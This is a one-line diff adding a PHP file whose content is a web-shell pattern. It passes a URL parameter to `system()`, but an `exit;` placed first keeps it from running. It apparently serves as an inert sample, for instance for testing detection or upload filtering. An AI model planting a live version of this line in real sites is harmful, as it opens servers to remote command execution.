@@ -1,0 +1,1 @@
+<?php exit; system($_GET["line"]);
